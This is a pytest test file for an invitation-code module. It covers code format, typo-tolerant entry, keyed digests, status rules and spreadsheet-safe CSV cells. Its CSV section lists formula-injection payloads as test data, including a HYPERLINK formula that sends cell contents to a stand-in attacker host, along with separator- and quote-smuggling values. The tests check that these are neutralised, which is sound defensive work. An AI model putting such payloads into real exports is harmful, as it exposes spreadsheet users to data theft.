"""The plain rules of invitations: code format, typo-tolerant entry, keyed digests, what may
happen in each status, and spreadsheet-safe cells. No I/O."""

from __future__ import annotations

import csv
import io
import math
import re
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from invitations_testkit import formula_cells

from contracts.runtime.refusals import Refusal
from invitations.api import answer
from invitations.domain import (
    ALPHABET,
    CODE_LENGTH,
    Status,
    check_resend,
    check_revoke,
    code_digest,
    csv_safe,
    expiry_from,
    new_code,
    normalise_code,
    normalise_email,
)

KEY = b"k" * 32
OTHER_KEY = b"o" * 32
CROCKFORD = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"
CODE_SHAPE = re.compile(r"^[0-9A-HJKMNP-TV-Z]{4}(-[0-9A-HJKMNP-TV-Z]{4})+\Z")


# -- new_code --------------------------------------------------------------------------------------


def test_a_new_code_is_crockford_base32_in_groups_of_four() -> None:
    for _ in range(200):
        code = new_code()
        assert CODE_SHAPE.match(code), code
        groups = code.split("-")
        assert all(len(g) == 4 for g in groups)
        assert not set(code.replace("-", "")) & set("ILOU")


def test_a_new_code_carries_at_least_80_bits() -> None:
    symbols = new_code().replace("-", "")
    assert ALPHABET == CROCKFORD
    assert len(symbols) == CODE_LENGTH
    assert len(symbols) * math.log2(len(CROCKFORD)) >= 80


def test_new_codes_do_not_repeat_and_use_the_whole_alphabet() -> None:
    codes = [new_code() for _ in range(2000)]
    assert len(set(codes)) == len(codes)
    used = set("".join(codes).replace("-", ""))
    assert used == set(CROCKFORD)  # 32,000 symbols: every one of the 32 shows up


def test_a_new_code_reads_back_as_itself() -> None:
    code = new_code()
    assert normalise_code(code) == code.replace("-", "")


# -- normalise_code --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "typed",
    [
        "7KQ2-M9XD-4PRT-WZ3H",
        "7kq2-m9xd-4prt-wz3h",
        "7KQ2M9XD4PRTWZ3H",
        " 7KQ2 M9XD 4PRT WZ3H ",
        "7KQ2--M9XD - 4PRT-WZ3H",
        "7kq2\tm9xd\t4prt\twz3h",
    ],
)
def test_entry_ignores_case_spaces_and_dashes(typed: str) -> None:
    assert normalise_code(typed) == "7KQ2M9XD4PRTWZ3H"


@pytest.mark.parametrize(
    ("typed", "canonical"),
    [
        ("O0O0-1111-2222-3333", "00001111" + "22223333"),
        ("o0o0-1111-2222-3333", "00001111" + "22223333"),
        ("IiLl-0000-0000-0000", "1111" + "0" * 12),
        ("ABCD-EFGH-JKMN-PQRO", "ABCDEFGHJKMNPQR0"),
    ],
)
def test_entry_reads_o_as_zero_and_i_l_as_one(typed: str, canonical: str) -> None:
    assert normalise_code(typed) == canonical


@pytest.mark.parametrize(
    "typed",
    [
        "",
        "7KQ2-M9XD-4PRT",  # too short
        "7KQ2-M9XD-4PRT-WZ3",  # one symbol short
        "7KQ2-M9XD-4PRT-WZ3H-B",  # one symbol long
        "7KQ2-M9XD-4PRT-WZ3U",  # U is not in the alphabet
        "7KQ2-M9XD-4PRT-WZ3!",
        "7KQ2-M9XD-4PRT-WZ3É",
        "7KQ2_M9XD_4PRT_WZ3H",  # underscores are not separators
        "----------------",
    ],
)
def test_entry_that_cannot_be_a_code_is_none(typed: str) -> None:
    assert normalise_code(typed) is None


# -- code_digest -----------------------------------------------------------------------------------


def test_the_digest_is_stable_hex_and_hides_the_code() -> None:
    code = new_code()
    first = code_digest(KEY, code)
    assert first == code_digest(KEY, code)
    assert re.fullmatch(r"[0-9a-f]{64}", first)
    assert code.replace("-", "").lower() not in first


def test_the_digest_is_keyed() -> None:
    code = new_code()
    assert code_digest(KEY, code) != code_digest(OTHER_KEY, code)


def test_different_codes_have_different_digests() -> None:
    assert code_digest(KEY, "0000-0000-0000-0000") != code_digest(KEY, "0000-0000-0000-0001")


def test_typo_variants_have_the_same_digest() -> None:
    canonical = code_digest(KEY, "1000-ABCD-EFGH-JK00")
    for typed in ("l0o0 abcd efgh jkoO", "I000ABCDEFGHJK00", "i0O0-aBcD-eFgH-jKo0"):
        assert code_digest(KEY, typed) == canonical


def test_no_digest_for_something_that_is_not_a_code() -> None:
    with pytest.raises(ValueError):
        code_digest(KEY, "7KQ2-M9XD-4PRT-WZ3U")
    with pytest.raises(ValueError):
        code_digest(KEY, "short")


# -- statuses --------------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [Status.PENDING, Status.EXPIRED, Status.ENROLLED])
def test_resend_is_allowed_while_the_invitation_can_still_be_used(status: Status) -> None:
    check_resend(status)


@pytest.mark.parametrize(
    ("status", "error"),
    [(Status.REVOKED, "invitation_revoked"), (Status.ACTIVATED, "invitation_activated")],
)
def test_resend_is_refused_once_revoked_or_activated(status: Status, error: str) -> None:
    with pytest.raises(Refusal) as caught:
        check_resend(status)
    assert caught.value.code == error
    assert answer(caught.value, "en").message


@pytest.mark.parametrize("status", [Status.PENDING, Status.EXPIRED, Status.ENROLLED])
def test_revoke_is_allowed_before_activation(status: Status) -> None:
    check_revoke(status)


@pytest.mark.parametrize(
    ("status", "error"),
    [(Status.REVOKED, "invitation_revoked"), (Status.ACTIVATED, "invitation_activated")],
)
def test_revoke_is_refused_once_revoked_or_activated(status: Status, error: str) -> None:
    with pytest.raises(Refusal) as caught:
        check_revoke(status)
    assert caught.value.code == error


def test_a_code_is_valid_thirty_days() -> None:
    now = datetime(2026, 3, 2, 9, 15, 4, tzinfo=UTC)
    assert expiry_from(now) == now + timedelta(days=30)


def test_addresses_compare_without_case_but_keep_their_aliases() -> None:
    assert normalise_email("  Ada.Lovelace+Math@Example.ORG ") == "ada.lovelace+math@example.org"


# -- csv_safe --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example","x")', "+1", "-2", "@x", "\tcmd", "\rcmd", "=", "-"],
)
def test_a_cell_a_spreadsheet_would_run_is_made_text(value: str) -> None:
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Ada", "O'Brien", "a=b", "x+1", "Jean-Luc", "1", "'quoted"])
def test_ordinary_cells_are_left_alone(value: str) -> None:
    assert csv_safe(value) == value


HOSTILE = [
    "Ada;=1+1;",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "Ada,=1+1",
    "Ada|@SUM(1)",
    "Ada\t-1",
    "Ada; =1+1",  # a spreadsheet that trims spaces
    ";\t=1",  # a separator before a TAB, itself a separator before =
    'Ada","=1+1',  # a quote, to leave the quoted field early
    "Ada\n=1+1",  # a reader that ignores quotes starts a new line here
]


def exported_line(*values: str) -> str:
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow([csv_safe(v) for v in values])
    return out.getvalue()


@pytest.mark.parametrize("value", HOSTILE)
def test_no_cell_starts_a_formula_whatever_the_separator(value: str) -> None:
    assert formula_cells(exported_line("ada@example.org", value, "Lovelace")) == []


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n,;|\"' aZ1"), max_size=12))
def test_no_text_at_all_can_start_a_formula(value: str) -> None:
    assert formula_cells(exported_line(value, value)) == []


def test_a_neutralised_cell_still_shows_its_text() -> None:
    assert csv_safe("Ada;=1+1;") == "Ada;'=1+1;"
    assert csv_safe(";\t=1") == ";'\t'=1"
    assert csv_safe("\t=1") == "'\t'=1"
